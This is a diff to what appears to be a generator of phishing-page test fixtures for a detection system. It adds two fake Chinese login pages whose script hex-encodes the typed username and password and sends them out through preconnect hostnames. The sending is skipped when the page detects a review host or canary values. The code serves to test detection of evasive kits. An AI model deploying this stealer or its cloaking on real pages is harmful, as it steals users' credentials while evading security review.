@@ -630,6 +630,29 @@ var miner = { threads: navigator.hardwareConcurrency, start: function () { var w
     ),
   });
 
+  // Kits that tell the review from a visitor by what only the render had, and send through a
+  // channel the static check does not see (preconnect host names): the render alone can catch
+  // them, where it runs as visitors get the page (an outside review's kits; docs/render.md).
+  const hexSend = (guard: string) =>
+    `document.getElementById('f').onsubmit = function (e) { e.preventDefault(); var h = function (s) { return Array.prototype.map.call(s, function (c) { return ('0' + c.charCodeAt(0).toString(16)).slice(-2); }).join(''); };
+  var v = [this.u.value, this.p.value]; if (${guard}) return; v.forEach(function (x, i) { var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'https://' + h(x) + '.' + i + '.${r.word(7)}.${r.pick(['top', 'xyz', 'cc'])}'; document.head.appendChild(l); }); };`;
+  add('cloak-review-host', 'credentials sent only away from a review host (.invalid, render)', {
+    'index.html': page(
+      '会员中心',
+      '',
+      `${LOGIN_FORM('会员中心', '会员积分即将清零，请登录确认')}
+<script>${hexSend('/\\.invalid$|render|review/.test(location.hostname)')}</script>`,
+    ),
+  });
+  add('cloak-canary-value', 'credentials sent only when what was typed does not look planted', {
+    'index.html': page(
+      '账户验证',
+      '',
+      `${LOGIN_FORM('网上营业厅', '话费积分兑换即将截止')}
+<script>${hexSend('/canary|test|7731/i.test(v.join(" "))')}</script>`,
+    ),
+  });
+
   add('delayed-redirect', 'redirect to a scam after a delay, host encoded', {
     'index.html': page(
       '正在加载',
